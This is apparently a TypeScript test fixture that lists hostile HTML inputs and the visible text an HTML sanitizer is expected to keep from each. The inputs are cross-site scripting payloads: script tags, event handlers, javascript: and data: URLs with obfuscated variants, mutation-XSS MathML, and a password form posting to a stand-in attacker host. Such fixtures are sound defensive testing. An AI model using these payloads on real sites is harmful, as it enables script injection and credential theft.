/** What a content service that was broken into could send, and what of it may be seen. */
export const HOSTILE: readonly (readonly [what: string, html: string, text: string])[] = [
  ['a script', '<p>Before</p><script>window.hacked = 1</script>', 'Before'],
  ['a script in SVG', '<svg><script>window.hacked = 1</script></svg>After', 'After'],
  ['a handler', '<img src="x" onerror="window.hacked = 1">Text', 'Text'],
  ['a handler on a kept element', '<p onclick="window.hacked = 1">Press</p>', 'Press'],
  ['a frame', '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>Text', 'Text'],
  ['javascript:', '<a href="javascript:window.hacked = 1">Link</a>', 'Link'],
  ['JavaScript: with blanks', '<a href=" jAvA\tscript:window.hacked = 1">Link</a>', 'Link'],
  ['javascript: in entities', '<a href="&#106;avascript:window.hacked = 1">Link</a>', 'Link'],
  ['data:', '<a href="data:text/html,<script>1</script>">Link</a>', 'Link'],
  ['vbscript:', '<a href="vbscript:msgbox(1)">Link</a>', 'Link'],
  ['another host without a scheme', '<a href="//evil.test/">Link</a>', 'Link'],
  ['http:', '<a href="http://evil.test/">Link</a>', 'Link'],
  ['a form', '<form action="https://evil.test/"><input name="password">Send</form>', 'Send'],
  ['a style', '<style>body { display: none }</style><p style="color: red">Text</p>', 'Text'],
  ['an id that shadows the page', '<p id="main" name="cookie">Text</p>', 'Text'],
  [
    'MathML that mutates',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1"></style></mglyph></table></mtext></math>Text',
    'Text',
  ],
  [
    'a comment that closes itself',
    '<!--><img src=x onerror="window.hacked = 1">-->Text',
    '-->Text',
  ],
  ['a heading of the page', '<h1>Loud</h1>', 'Loud'],
];
